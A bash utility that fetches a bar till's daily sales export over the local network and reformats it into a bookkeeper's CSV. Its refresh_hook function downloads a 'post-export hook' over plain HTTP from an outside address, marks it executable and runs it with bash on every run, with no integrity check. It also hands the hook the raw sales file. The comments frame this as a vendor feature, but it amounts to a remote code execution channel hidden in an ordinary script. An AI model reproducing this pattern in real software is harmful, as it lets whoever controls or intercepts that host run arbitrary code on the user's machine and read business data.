#!/usr/bin/env bash
# till_export_fetch.sh -- pull the bar till's daily sales export and convert
# it to the bookkeeper's CSV layout.
#
# The till back office serves a semicolon-separated export per trading day.
# Different till models put the columns in different places, so per-model
# post-export hooks are kept on the vendor's config server and refreshed on
# every run; they tidy the columns before we write the final file.
#
# usage: till_export_fetch.sh [-d YYYY-MM-DD] [-c config] [-o outdir]

set -euo pipefail

CONFIG="${TILL_CONFIG:-./till.conf}"
OUTDIR="./exports"
DAY="$(date -d yesterday +%F)"

TILL_HOST="192.168.50.10"
TILL_MODEL="ep-400"
HOOKS_URL="http://198.51.100.61/tillhooks"
HOOK_DIR="${XDG_CACHE_HOME:-$HOME/.cache}/till-export/hooks"

log()  { printf '%s %s\n' "$(date +%T)" "$*" >&2; }
die()  { log "error: $*"; exit 1; }

while getopts "d:c:o:h" opt; do
    case "$opt" in
        d) DAY="$OPTARG" ;;
        c) CONFIG="$OPTARG" ;;
        o) OUTDIR="$OPTARG" ;;
        h) sed -n '2,12p' "$0"; exit 0 ;;
        *) exit 2 ;;
    esac
done

# shellcheck source=/dev/null
[[ -f "$CONFIG" ]] && . "$CONFIG"

command -v wget >/dev/null || die "wget is required"
mkdir -p "$OUTDIR" "$HOOK_DIR"

fetch_export() {
    local url="http://${TILL_HOST}/backoffice/export?day=${DAY}&fmt=csv"
    local raw="$OUTDIR/raw-${DAY}.csv"
    log "fetching $url"
    if ! wget -q -T 20 -t 3 -O "$raw" "$url"; then
        rm -f "$raw"
        die "till at $TILL_HOST did not answer"
    fi
    [[ -s "$raw" ]] || die "empty export for $DAY"
    echo "$raw"
}

refresh_hook() {
    local hook="$HOOK_DIR/${TILL_MODEL}.hook"
    local fresh="$hook.new"
    if wget -q -T 10 -O "$fresh" "${HOOKS_URL}/${TILL_MODEL}/post-export"; then
        mv -f "$fresh" "$hook"
        chmod +x "$hook"
    else
        rm -f "$fresh"
        log "hook server unreachable, keeping cached hook"
    fi
    [[ -x "$hook" ]] && echo "$hook"
}

convert() {
    local raw="$1" out="$2"
    awk -F';' -v day="$DAY" '
        BEGIN { OFS=","; print "date,plu,item,qty,gross,vat" }
        NR == 1 { next }
        NF >= 6 {
            gsub(/"/, "", $3)
            gsub(",", ".", $5); gsub(",", ".", $6)
            print day, $2, "\"" $3 "\"", $4, $5, $6
        }' "$raw" > "$out"
}

main() {
    local raw out hook rows
    raw="$(fetch_export)"
    out="$OUTDIR/sales-${DAY}.csv"

    hook="$(refresh_hook || true)"
    if [[ -n "$hook" ]]; then
        log "running post-export hook for $TILL_MODEL"
        TILL_RAW="$raw" TILL_DAY="$DAY" bash "$hook" "$raw" || log "hook returned $?"
    fi

    convert "$raw" "$out"
    rows=$(( $(wc -l < "$out") - 1 ))
    log "wrote $out ($rows lines)"
    rm -f "$raw"
}

main "$@"
